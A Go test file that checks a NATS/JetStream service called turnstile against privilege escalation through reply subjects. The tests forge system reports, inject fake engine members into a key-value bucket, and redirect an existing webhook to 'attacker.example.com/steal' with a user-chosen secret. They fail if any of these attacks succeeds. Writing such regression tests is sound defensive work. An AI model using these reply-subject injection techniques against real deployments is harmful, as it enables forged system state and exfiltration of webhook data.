package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"

	"github.com/turnstile-dev/turnstile/client"
	"github.com/turnstile-dev/turnstile/engine"
	"github.com/turnstile-dev/turnstile/events"
	"github.com/turnstile-dev/turnstile/fsm"
)

// TestReplySubjectsWriteNothing: the user role may not publish on
// <prefix>.evt.>, .out.> or .sys.>, but every request it may make carries
// a reply subject of its own choosing, and the server publishes its
// answer there, in serve's account, where the streams take it in. A
// direct get of a command the user stored (any body, any headers)
// answered on turnstile.sys.<ws> is a system report in the system stream,
// which the engine trusts (issue 12 item 2 through another door); on
// turnstile.evt.<ws> it is an event, on turnstile.out.<id> an outcome. A
// JetStream publish's ack and a stream info's answer land the same way.
func TestReplySubjectsWriteNothing(t *testing.T) {
	s := startInProcessServe(t, nil)
	if code, out, errs := runCLI(t, s.env, "create", "victim", "--wait"); code != 0 {
		t.Fatalf("create: exit %d\n%s%s", code, out, errs)
	}
	nc, js, _ := s.connectUser(t)
	replySubjectsWriteNothing(t, nc, js, s.env)
}

// replySubjectsWriteNothing makes the requests of
// TestReplySubjectsWriteNothing on nc (a user's connection, js its
// JetStream) against the workspace victim, which exists, and fails if
// anything lands; env is the CLI's, for victim's history.
func replySubjectsWriteNothing(t *testing.T, nc *nats.Conn, js jetstream.JetStream, env map[string]string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()

	// Stored on the command stream, where the engine refuses them.
	carry := func(body string) uint64 {
		t.Helper()
		ack, err := js.Publish(ctx, "turnstile.cmd.carrier", []byte(body))
		if err != nil {
			t.Fatal(err)
		}
		return ack.Sequence
	}
	report := carry(`{"id":"sys-exited-victim-g1-forged","type":"container_exited","workspace":"victim","generation":1,"exit_code":137,"reason":"forged"}`)
	other := carry(`{"forged":"event or outcome"}`)
	for reply, seq := range map[string]uint64{
		"turnstile.sys.victim":         report,
		"turnstile.evt.bystander":      other,
		"turnstile.out.forged-outcome": other,
	} {
		if err := nc.PublishRequest("$JS.API.DIRECT.GET.TURNSTILE_COMMANDS", reply, fmt.Appendf(nil, `{"seq":%d}`, seq)); err != nil {
			t.Fatal(err)
		}
	}
	if err := nc.PublishMsg(&nats.Msg{Subject: "turnstile.cmd.carrier", Reply: "turnstile.out.forged-ack", Data: []byte(`{}`)}); err != nil {
		t.Fatal(err)
	}
	if err := nc.PublishRequest("$JS.API.STREAM.INFO.TURNSTILE_COMMANDS", "turnstile.out.forged-info", nil); err != nil {
		t.Fatal(err)
	}
	if err := nc.Flush(); err != nil {
		t.Fatal(err)
	}

	stored := func(stream, subject string) bool {
		st, err := js.Stream(ctx, stream)
		if err != nil {
			t.Fatal(err)
		}
		m, err := st.GetLastMsgForSubject(ctx, subject)
		if err != nil && !errors.Is(err, jetstream.ErrMsgNotFound) {
			t.Fatal(err)
		}
		// victim's own reports are on its system subject too: the forged
		// one says so.
		return err == nil && (stream != "TURNSTILE_SYSTEM" || bytes.Contains(m.Data, []byte("forged")))
	}
	check := []struct{ stream, subject string }{
		{"TURNSTILE_SYSTEM", "turnstile.sys.*.victim"},
		{"TURNSTILE_EVENTS", "turnstile.evt.bystander"},
		{"TURNSTILE_EVENTS", "turnstile.out.forged-outcome"},
		{"TURNSTILE_EVENTS", "turnstile.out.forged-ack"},
		{"TURNSTILE_EVENTS", "turnstile.out.forged-info"},
	}
	// The server answers each request at once: what has not landed within
	// 5 seconds does not land. (An absence has no event to wait on.)
	var landed []string
	for end := time.Now().Add(5 * time.Second); len(landed) == 0 && time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		for _, c := range check {
			if stored(c.stream, c.subject) {
				landed = append(landed, c.subject)
			}
		}
	}
	if len(landed) == 0 {
		return
	}
	// What the forged report did: the engine applies it.
	var history string
	for end := time.Now().Add(10 * time.Second); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		if _, history, _ = runCLI(t, env, "history", "victim"); strings.Contains(history, "forged") {
			break
		}
	}
	t.Fatalf("the user role wrote into serve's streams through reply subjects: %v\nvictim's history:\n%s", landed, history)
}

// replyInto stores body on the command stream and has the server copy it
// onto subject, as the answer to a direct get whose reply subject it is,
// every interval until the test ends (once if interval is 0).
func replyInto(t *testing.T, nc *nats.Conn, js jetstream.JetStream, body string, interval time.Duration, subjects ...string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	ack, err := js.Publish(ctx, "turnstile.cmd.carrier", []byte(body))
	if err != nil {
		t.Fatal(err)
	}
	req := fmt.Appendf(nil, `{"seq":%d}`, ack.Sequence)
	inject := func() {
		for _, s := range subjects {
			_ = nc.PublishRequest("$JS.API.DIRECT.GET.TURNSTILE_COMMANDS", s, req)
		}
		_ = nc.Flush()
	}
	inject()
	if interval == 0 {
		return
	}
	stop, done := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(done)
		tick := time.NewTicker(interval)
		defer tick.Stop()
		for {
			select {
			case <-tick.C:
				inject()
			case <-stop:
				return
			}
		}
	}()
	t.Cleanup(func() { close(stop); <-done })
}

// The same door into the engines' members bucket: entries of engines that
// do not exist take partitions from the real one, which lets go of them,
// and nobody pulls them: most workspaces' commands are never decided.
func TestReplySubjectsStealNoPartitions(t *testing.T) {
	s := startInProcessServe(t, nil)
	nc, js, _ := s.connectUser(t)
	bucket := "KV_" + engine.MembersBucket(events.NewNames(""), "turnstile-engine")
	var fakes []string
	for i := range 15 {
		fakes = append(fakes, fmt.Sprintf("$KV.%s.fake%02d", strings.TrimPrefix(bucket, "KV_"), i))
	}
	replyInto(t, nc, js, `{"id":"fake","name":"nobody","since":"2026-01-01T00:00:00Z","partitions":[],"p":16}`, 500*time.Millisecond, fakes...)

	cl, err := client.New(context.Background(), nc, client.Options{Actor: "test"})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = cl.Close() }()
	// Wait for the real engine to let go of partitions; one that never
	// does (forged members ignored) is waited for 10 seconds.
	var pulls []int
	lettingGo := func() bool {
		ms, err := engine.ReadMembers(context.Background(), js, events.NewNames(""), "turnstile-engine")
		if err != nil {
			return false
		}
		for _, m := range ms {
			if m.Name != "nobody" {
				pulls = m.Partitions
			}
		}
		return len(pulls) < 16
	}
	for end := time.Now().Add(10 * time.Second); !lettingGo() && time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
	}
	var mu sync.Mutex
	var stuck []string
	var wg sync.WaitGroup
	for i := range 8 {
		ws := fmt.Sprintf("w%d", i)
		wg.Go(func() {
			ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
			defer cancel()
			if _, err := cl.SendNew(ctx, fsm.Command{ID: client.NewCommandID(), Type: fsm.Create, Workspace: ws}); err != nil {
				mu.Lock()
				stuck = append(stuck, ws)
				mu.Unlock()
			}
		})
	}
	wg.Wait()
	_ = lettingGo()
	if len(stuck) > 0 {
		t.Fatalf("forged members in %s: the engine pulls partitions %v, and creates of %v got no outcome in 15s", bucket, pulls, stuck)
	}
}

// And into the webhook bucket, which no role may read or write: an
// existing webhook (its id is in the name of its consumer, which the user
// role may list) is sent elsewhere, signed with a secret of the user's.
func TestReplySubjectsRewriteNoWebhook(t *testing.T) {
	s := startInProcessServe(t, nil)
	tok, err := os.ReadFile(filepath.Join(s.dir, apiTokenFile))
	if err != nil {
		t.Fatal(err)
	}
	api := func(method, path string, body []byte) []byte {
		t.Helper()
		req, err := http.NewRequest(method, s.httpURL+path, bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+strings.TrimSpace(string(tok)))
		if body != nil {
			req.Header.Set("Content-Type", "application/json")
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = resp.Body.Close() }()
		var b bytes.Buffer
		_, _ = b.ReadFrom(resp.Body)
		if resp.StatusCode >= 300 {
			t.Fatalf("%s %s: %d %s", method, path, resp.StatusCode, b.String())
		}
		return b.Bytes()
	}
	var added struct{ ID string }
	if err := json.Unmarshal(api(http.MethodPost, "/v1/webhooks", []byte(`{"url":"https://receiver.example.com/hook"}`)), &added); err != nil {
		t.Fatal(err)
	}

	nc, js, _ := s.connectUser(t)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	st, err := js.Stream(ctx, "TURNSTILE_EVENTS")
	if err != nil {
		t.Fatal(err)
	}
	var id string
	for ci := range st.ListConsumers(ctx).Info() {
		if after, ok := strings.CutPrefix(ci.Name, "webhook-"); ok {
			id = after
		}
	}
	if id != added.ID {
		t.Fatalf("the user role lists webhook %q, want %q", id, added.ID)
	}
	replyInto(t, nc, js, fmt.Sprintf(`{"id":%q,"url":"https://attacker.example.com/steal","events":[],"created":"2026-01-01T00:00:00Z","secret":"whsec_mine"}`, id),
		0, "$KV.TURNSTILE_WEBHOOKS."+id)
	var listed string
	for end := time.Now().Add(5 * time.Second); time.Now().Before(end); time.Sleep(100 * time.Millisecond) {
		if listed = string(api(http.MethodGet, "/v1/webhooks", nil)); strings.Contains(listed, "attacker") {
			t.Fatalf("the user role rewrote webhook %s: %s", id, listed)
		}
	}
}
